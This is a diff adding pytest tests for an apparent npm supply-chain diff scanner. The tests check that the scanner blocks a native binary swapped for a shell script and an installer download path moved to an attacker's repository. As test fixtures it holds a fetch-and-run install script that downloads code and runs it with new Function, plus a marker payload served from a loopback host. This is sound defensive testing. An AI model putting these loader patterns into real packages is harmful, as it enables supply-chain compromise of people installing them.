@@ -389,3 +389,225 @@ def test_nodemon_reading_its_package_json_by_a_computed_path_is_data(tmp_path: P
     install = "var pkg = require(__dirname + '/../package.json');\nconsole.log(pkg.version)\n"
     base = _shape("", {"bin/postinstall.js": install, "lib/monitor/run.js": "a\n"}, script="node bin/postinstall.js")
     assert pair(tmp_path, base, {"lib/monitor/run.js": "b\n"}).findings == []
+
+
+# ------------------------------------------------------------------ issue 22: a binary that becomes a script
+
+#: A real native executable of this machine that does nothing (the baseline's binary runs and is harmless).
+_TRUE = Path("/bin/true")
+_SCRIPT = '#!/bin/sh\ntouch "$INIT_CWD/pwned"\n'
+
+
+def _consumer_install_all(packages: dict[str, dict[str, str | bytes]], dest: Path, modes: dict[str, int]) -> Path:
+    """`npm install` of several packages from files (scripts on), as one consumer's dependencies."""
+    import os
+    import shutil
+    import subprocess
+
+    npm = shutil.which("npm")
+    assert npm, "npm is required for the tests"
+    dest.mkdir()
+    deps = {}
+    for name, files in packages.items():
+        make_tgz(files, dest / f"{name}.tgz", modes=modes)
+        deps[name] = f"file:../{name}.tgz"
+    consumer = dest / "consumer"
+    consumer.mkdir()
+    (consumer / "package.json").write_text(json.dumps({"name": "consumer", "version": "1.0.0", "dependencies": deps}))
+    env = {k: v for k, v in os.environ.items() if k != "NODE_OPTIONS"}
+    env["npm_config_cache"] = str(dest / "npm-cache")
+    proc = subprocess.run(
+        [npm, "install", "--no-audit", "--no-fund", "--registry", "http://127.0.0.1:9/"],
+        cwd=consumer,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=env,
+    )
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    return consumer
+
+
+#: who runs demo's bin/tool: (demo's extra manifest fields, another package's postinstall or None, expected rule)
+_RUNNERS = {
+    "bin-link-run-by-another-package": (
+        {"bin": {"demo-tool": "bin/tool"}}, "demo-tool", "executable-binary-became-script"),
+    "path-run-by-another-package": (
+        {},
+        "node -e \"require('child_process').execFileSync(require.resolve('demo/bin/tool'))\"",
+        "executable-binary-became-script",
+    ),
+    "own-install-script": ({"scripts": {"install": "./bin/tool"}}, None, "install-script-code-changed"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("runner", sorted(_RUNNERS))
+def test_a_native_executable_that_becomes_a_script_blocks(runner: str, tmp_path: Path) -> None:
+    """The miss: bin/tool shipped as a native executable for many releases becomes a shell script; whatever ran
+    the binary (a bin link another package's install script calls, a path it executes, this package's own
+    install script) now runs the script. Before: no finding at all when another package runs it."""
+    fields, app_script, expected = _RUNNERS[runner]
+    base = {"package.json": manifest(**fields), "bin/tool": _TRUE.read_bytes(), "index.js": _OK}
+    cand = {**base, "package.json": manifest(version="1.0.1", **fields), "bin/tool": _SCRIPT}
+    modes = {"bin/tool": 0o755}
+    others = {}
+    if app_script:
+        others["app"] = {
+            "package.json": json.dumps({"name": "app", "version": "1.0.0", "scripts": {"postinstall": app_script}})
+        }
+    assert not (_consumer_install_all({"demo": base, **others}, tmp_path / "b", modes) / "pwned").exists()
+    assert (_consumer_install_all({"demo": cand, **others}, tmp_path / "c", modes) / "pwned").exists(), "premise"
+    b, c = make_tgz(base, tmp_path / "base.tgz", modes=modes), make_tgz(cand, tmp_path / "cand.tgz", modes=modes)
+    limits = Policy().diff.limits
+    result = diff_packages(read_package(b, limits), read_package(c, limits), Policy())
+    blocking = [(f.rule, f.file) for f in result.findings if f.blocks]
+    assert blocking == [(expected, "bin/tool")], result.findings
+    if expected == "executable-binary-became-script":
+        assert "now runs this file" in result.findings[0].message and "#!/bin/sh" in result.findings[0].message
+
+
+def test_a_native_executable_rebuilt_or_approved_is_not_a_script(tmp_path: Path) -> None:
+    base = {"package.json": manifest(bin={"demo-tool": "bin/tool"}), "bin/tool": ELF_X64}
+    assert rules(pair(tmp_path, base, {"bin/tool": ELF_X64 + b"x"})) == ["executable-binary-changed"]
+    digest = hashlib.sha256(_SCRIPT.encode()).hexdigest()
+    policy = f"approve:\n  files:\n    - path: bin/tool\n      sha256: {digest}\n"
+    assert rules(pair(tmp_path, base, {"bin/tool": _SCRIPT}, policy)) == ["approved-change"]
+    # a script that stays a script is the install-code closure's business, not this rule's
+    base = {"package.json": manifest(bin={"demo-tool": "bin/tool"}), "bin/tool": "#!/bin/sh\ntrue\n"}
+    assert "executable-binary-became-script" not in rules(pair(tmp_path, base, {"bin/tool": _SCRIPT}))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const conf = require(process.env.CONF_DIR + '/settings.json')\n",  # a computed `.json`: data
+        "const c = require(path.join(process.env.INIT_CWD, 'app.config'))\n",  # the consumer's folder
+    ],
+)
+def test_a_computed_require_of_data_or_the_consumers_folder_is_not_a_fail_closed(tmp_path: Path, code: str) -> None:
+    """The noisy class of the issue (held already; this pins it): a non-literal `require` of a `.json`, or of a
+    path under INIT_CWD, cannot load package code, so it does not make every changed code file install code."""
+    base = with_install("node i.js", {"i.js": code, "lib/a.js": "a\n", "types/a.d.ts": "export {}\n"})
+    assert pair(tmp_path, base, {"lib/a.js": "b\n", "types/a.d.ts": "export const x: 1\n"}).findings == []
+
+
+def test_type_declarations_are_not_executable_under_a_fail_closed(tmp_path: Path) -> None:
+    base = with_install("node i.js", {"i.js": "require(pick())\n", "lib/a.js": "a\n", "types/a.d.ts": "export {}\n"})
+    result = pair(tmp_path, base, {"lib/a.js": "b\n", "types/a.d.ts": "export const x: 1\n"})
+    assert [(f.rule, f.file) for f in result.findings] == [("install-script-code-changed", "lib/a.js")]
+
+
+# ------------------------------------------------------------------ issue 22: installer download config by full URL
+
+#: A node-pre-gyp-shaped installer: it composes `binary.host` + `remote_path` + `package_name` (with
+#: `{version}`) as node-pre-gyp does, downloads that file and runs it.
+_FETCH_AND_RUN = """const pkg = require('./package.json')
+const b = pkg.binary
+const url = (b.host + b.remote_path + '/' + b.package_name).replace(/\\{version\\}/g, pkg.version)
+require('http').get(url, (res) => {
+  let body = ''
+  res.on('data', (d) => { body += d })
+  res.on('end', () => { if (res.statusCode === 200) new Function('require', body)(require) })
+})
+"""
+
+
+@pytest.fixture
+def download_host():
+    """A loopback download host: the owner's release folder (harmless) and another path on it (a payload)."""
+    import http.server
+    import threading
+
+    files = {
+        "/acme/x/releases/download/v1.0.0/x.js": b"1\n",
+        "/acme/x/releases/download/v1.0.1/x.js": b"1\n",
+        "/mallory/x/releases/download/v1.0.1/x.js": _PWN.encode(),
+    }
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = files.get(self.path)
+            self.send_response(200 if body else 404)
+            self.end_headers()
+            self.wfile.write(body or b"")
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize("field", ["remote_path", "host"])
+def test_installer_download_moved_to_another_path_on_the_same_host_blocks(
+    field: str, download_host: str, tmp_path: Path
+) -> None:
+    """The miss: `binary.remote_path` (or the path inside `host`) moved to another repository on the same host was
+    only `install-data-changed` (a warning), as the host compared equal; a consumer's install runs what the new
+    path serves. The version moving inside the path stays at the same location (warns as data)."""
+    binary = {"module_name": "x", "host": download_host, "remote_path": "acme/x/releases/download/v{version}",
+              "package_name": "x.js"}  # fmt: skip
+    moved = dict(binary)
+    if field == "remote_path":
+        moved["remote_path"] = "mallory/x/releases/download/v{version}"
+    else:
+        moved["host"], moved["remote_path"] = download_host + "mallory/", "x/releases/download/v{version}"
+    fields = {"scripts": {"install": "node install.js"}}
+    base = {"package.json": manifest(**fields, binary=binary), "install.js": _FETCH_AND_RUN}
+    cand = {**base, "package.json": manifest(version="1.0.1", **fields, binary=moved)}
+    assert not (_consumer_install(base, tmp_path / "b") / "pwned").exists(), "premise: the base is harmless"
+    assert (_consumer_install(cand, tmp_path / "c") / "pwned").exists(), "premise: npm install runs the payload"
+    result = pair(tmp_path, base, {"package.json": cand["package.json"]})
+    [f] = result.findings
+    assert f.rule == "install-download-changed" and f.blocks and "mallory" in f.message, result.findings
+    # the same release with the version inside the path bumped literally, or a field outside the URL renamed
+    literal = {**binary, "remote_path": "acme/x/releases/download/v1.0.0"}
+    same = {**literal, "remote_path": "acme/x/releases/download/v1.0.1", "module_name": "y"}
+    base = {**base, "package.json": manifest(**fields, binary=literal)}
+    quiet = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, binary=same)})
+    assert rules(quiet) == ["install-data-changed"], quiet.findings
+
+
+def test_installer_module_path_and_prebuild_install_repository_are_download_locations(tmp_path: Path) -> None:
+    """node-pre-gyp's `module_path` is where the downloaded binary lands and is loaded from; prebuild-install
+    downloads from the GitHub releases of package.json `repository`."""
+    binary = {"module_name": "x", "module_path": "./lib/binding/{node_abi}", "host": "https://github.com/acme/x/"}
+    fields = {"scripts": {"install": "node-pre-gyp install"}}
+    base = {"package.json": manifest(**fields, binary=binary)}
+    moved = {"package.json": manifest(version="1.0.1", **fields, binary={**binary, "module_path": "./lib/"})}
+    [f] = pair(tmp_path, base, moved).findings
+    assert f.rule == "install-download-changed" and "file:///lib" in f.message
+    fields = {"scripts": {"install": "prebuild-install || node-gyp rebuild"}}
+    repo = {"type": "git", "url": "git+https://github.com/acme/x.git"}
+    base = {"package.json": manifest(**fields, repository=repo), "binding.gyp": "{'targets': []}"}
+    other = {**repo, "url": "git+https://github.com/mallory/x.git"}
+    [g] = pair(tmp_path, base, {"package.json": manifest(version="1.0.1", **fields, repository=other)}).findings
+    assert g.rule == "install-download-changed" and "mallory" in g.message
+    # without prebuild-install the repository is metadata
+    base = {"package.json": manifest(scripts={"install": "node i.js"}, repository=repo), "i.js": "1\n"}
+    assert pair(tmp_path, base, {"package.json": manifest(version="1.0.1", scripts={"install": "node i.js"},
+                                                          repository=other)}).findings == []  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("before", "after", "moved"),
+    [
+        ("https://gl.example/api/v4/projects/12345/x.tgz", "https://gl.example/api/v4/projects/66666/x.tgz", True),
+        ("https://dl.example/acme/x/v1.2.3/x-1.2.3.tgz", "https://dl.example/acme/x/v1.2.4/x-1.2.4.tgz", False),
+        ("https://dl.example/acme/x/v1.2.3/x.tgz", "https://dl.example/mallory/x/v1.2.3/x.tgz", True),
+        ("https://dl.example/acme/x.tgz", "https://dl.example/acme/../mallory/x.tgz", True),
+    ],
+)  # fmt: skip
+def test_download_urls_in_install_data_compare_by_location(
+    tmp_path: Path, before: str, after: str, moved: bool
+) -> None:
+    """A version moving inside the path stays at the same location; any other path change on the same host is a
+    move (a bare number is an id, not a version)."""
+    install = "const sums = fs.readFileSync(path.join(__dirname, 'checksums.txt'), 'utf8');\n"
+    base = with_install("node install.js", {"install.js": install, "checksums.txt": f"abc  {before}\n"})
+    [f] = pair(tmp_path, base, {"checksums.txt": f"def  {after}\n"}).findings
+    assert f.rule == ("install-download-changed" if moved else "install-data-changed"), f.message
